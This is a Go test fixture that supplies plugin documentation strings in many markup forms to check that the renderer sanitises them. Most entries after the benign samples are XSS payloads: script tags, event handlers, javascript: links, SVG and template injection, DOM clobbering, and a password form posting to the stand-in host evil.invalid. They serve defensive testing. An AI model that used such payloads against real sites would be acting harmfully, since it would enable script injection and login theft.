package plugins

import (
	"strings"

	"sluiceway/backend/connect"
)

// kitchenDocs are texts in every kind of markup that plugins use, and in those
// that only an attacker would. What shows them has to clean them first.
func kitchenDocs() []Key {
	texts := []struct{ name, doc string }{
		{"html", `Some <code>code</code>, <b>bold</b>, <i>italic</i>, a line<br>break and <a href="https://kafka.apache.org/documentation/">a link</a>.<p>A second paragraph.</p><ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul><ol><li>first</li><li>second</li></ol>`},
		{"broken", `An <b>open tag, a stray </i>, an &unknown; entity, 1 < 2 && 3 > 2, and <code>never closed`},
		{"markdown", "# A heading\n\nSome `code`, **bold** and [a link](https://example.org/a?b=c&d=e).\n\n* one\n* two\n\n```\n{\"key\": \"value\"}\n```"},
		{"plain", "Two lines of plain text.\nThe second one, with a bare address: https://example.org/docs."},
		{"table", `<table><tr><th>value</th><th>meaning</th></tr><tr><td>0</td><td>off</td></tr></table><dl><dt>term</dt><dd>explanation</dd></dl>`},
		{"script", `Before<script>window.sandboxHostile='script'</script><script src="https://evil.invalid/x.js"></script>after.`},
		{"handler", `<img src="x" onerror="window.sandboxHostile='onerror'"><b onclick="window.sandboxHostile='onclick'" onmouseover="window.sandboxHostile='over'">press me</b><body onload="window.sandboxHostile='onload'">`},
		{"link", `<a href="javascript:window.sandboxHostile='link'">one</a> <a href="JaVa&#115;cript:window.sandboxHostile='link'">two</a> <a href="data:text/html,<script>window.sandboxHostile='data'</script>">three</a> <a href="file:///etc/passwd" target="_blank">four</a> <a href="//evil.invalid/">five</a>`},
		{"svg", `<svg onload="window.sandboxHostile='svg'"><script>window.sandboxHostile='svg'</script><a xlink:href="javascript:window.sandboxHostile='svg'"><text>x</text></a></svg><math><mtext><script>window.sandboxHostile='math'</script></mtext></math>`},
		{"style", `<style>body{display:none}</style><p style="position:fixed;inset:0;background:url(https://evil.invalid/p.png)">covers all</p><link rel="stylesheet" href="https://evil.invalid/x.css"><font color="red" size="7">large</font>`},
		{"form", `<form action="https://evil.invalid/steal"><input name="password" autofocus onfocus="window.sandboxHostile='focus'"><button formaction="javascript:window.sandboxHostile='form'">Log in</button></form><textarea><select><option>x`},
		{"frame", `<iframe src="javascript:window.sandboxHostile='frame'"></iframe><object data="https://evil.invalid/o"></object><embed src="x"><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">`},
		{"image", `<img src="https://evil.invalid/pixel.png" srcset="https://evil.invalid/2x.png 2x" alt="picture"><video src="https://evil.invalid/v" autoplay></video><picture><source srcset="https://evil.invalid/s"></picture>`},
		{"clobber", `<a id="body" name="documentElement">anchor</a><form id="attributes"><input name="firstChild"></form><b id="root">an id of the page</b>`},
		{"template", `{{constructor.constructor('window.sandboxHostile=1')()}} ${window.sandboxHostile=1} <template><script>window.sandboxHostile='template'</script></template><noscript><p title="</noscript><img src=x onerror=window.sandboxHostile='noscript'>"></noscript>`},
		{"unicode", "Right to left: \u202eevil\u202c, zero\u200bwidth, a bell \u0007, emoji 🐟, combining e\u0301, and ﷽."},
	}
	out := make([]Key, 0, len(texts)+2)
	for _, text := range texts {
		out = append(out, Null(connect.FieldString, "kitchen.docs."+text.name, Low, text.doc).Titled("Docs: "+text.name).Sized(Wide))
	}
	paragraph := "This text is as long as the longest that real plugins carry. It says the same thing again and again, which real ones do less, and names <code>a.setting</code> each time. "
	return append(out,
		Null(connect.FieldString, "kitchen.docs.long", Low, strings.Repeat(paragraph, 30)).Titled("Docs: long").Sized(Wide),
		Null(connect.FieldString, "kitchen.docs.word", Low, strings.Repeat("verylongword", 60)).Titled("Docs: one long word").Sized(Wide),
	)
}
